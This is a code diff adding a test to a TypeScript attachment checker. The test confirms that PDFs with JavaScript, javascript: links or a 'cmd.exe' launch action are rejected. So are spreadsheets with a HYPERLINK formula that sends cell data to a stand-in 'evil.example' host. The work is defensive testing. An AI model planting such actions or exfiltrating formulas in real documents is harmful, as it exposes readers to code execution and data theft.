@@ -13,7 +13,9 @@ import { displayPath } from '../../src/loaders/barometer.ts';
 import { letterFiles, readAttachment } from '../../src/loaders/attachments.ts';
 import { letterSchema } from '../../src/lib/content-schemas.ts';
 import { fixtureFiles, FIXTURE_MARKDOWN, FIXTURE_SLUG } from '../../scripts/lib/corpus/attachment-letter.ts';
-import { lockedPdf } from '../../scripts/lib/corpus/attachment-files.ts';
+import { lockedPdf, textPdf } from '../../scripts/lib/corpus/attachment-files.ts';
+import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
+import writeXlsxFile from 'write-excel-file/node';
 
 async function site(): Promise<{ content: string; folder: string; cacheDir: string }> {
   const root = mkdtempSync(join(tmpdir(), 'attachment-check-'));
@@ -61,6 +63,40 @@ describe("the check of a letter's files", () => {
       'bilag-4.csv:5:2: cellen begynder med "+", så et regneark kører den som en formel, når bilaget åbnes',
     ]);
     expect(errors[0]).toContain('fik "=HYPERLINK(');
+  });
+
+  it('refuses a PDF or XLSX that would run or open something by itself, and keeps ordinary links and formulas', async () => {
+    const { content, folder, cacheDir } = await site();
+    // A PDF with a text page, JavaScript on opening, a javascript: link, a launch action and a web link.
+    const doc = await PDFDocument.load(await textPdf(['Bilag med tekst.']));
+    const ctx = doc.context;
+    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
+    const link = (a: Record<string, unknown>) => ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A: a }));
+    doc
+      .getPage(0)
+      .node.set(
+        PDFName.of('Annots'),
+        ctx.obj([
+          link({ S: 'URI', URI: PDFString.of('javascript:alert(2)') }),
+          link({ S: 'Launch', F: PDFString.of('cmd.exe') }),
+          link({ S: 'URI', URI: PDFString.of('https://www.kk.dk/') }),
+        ]),
+      );
+    writeFileSync(join(folder, 'bilag-1.pdf'), await doc.save({ useObjectStreams: true }));
+    const sheet = (formula: string) =>
+      writeXlsxFile([
+        [{ value: 'Tal' }, { value: 'Sum' }],
+        [{ value: 2 }, { type: 'Formula', value: formula }],
+      ]).toBuffer();
+    writeFileSync(join(folder, 'bilag-3.xlsx'), await sheet('HYPERLINK("https://evil.example/?x="&A2,"klik")'));
+    const shown = displayPath(folder);
+    expect((await attachmentErrors(content, { cacheDir })).map(formatError)).toEqual([
+      `${shown}/bilag-1.pdf:1:1: bilaget indeholder JavaScript, et link til javascript: og en handling, der starter et program, som læserens program kan køre eller åbne af sig selv (fik "bilag-1.pdf", forventede en PDF uden scripts, handlinger og indlejrede filer: udskriv dokumentet til en ny PDF («Udskriv» → «Gem som PDF»), eller gem det igen som PDF/A)`,
+      `${shown}/bilag-3.xlsx:1:1: bilaget indeholder formlen HYPERLINK, som læserens program kan køre eller åbne af sig selv (fik "bilag-3.xlsx", forventede et regneark uden makroer, links til andre regneark og formler, der henter eller linker (fx HYPERLINK, WEBSERVICE): erstat formlen med dens værdi («Indsæt værdier»), og gem igen som .xlsx)`,
+    ]);
+    // A sum is an ordinary formula.
+    writeFileSync(join(folder, 'bilag-3.xlsx'), await sheet('SUM(A2:A2)'));
+    expect((await attachmentErrors(content, { cacheDir })).map((e) => e.got)).toEqual(['bilag-1.pdf']);
   });
 
   it('reports only the files asked about (the pre-commit hook), judged against the whole folder', async () => {
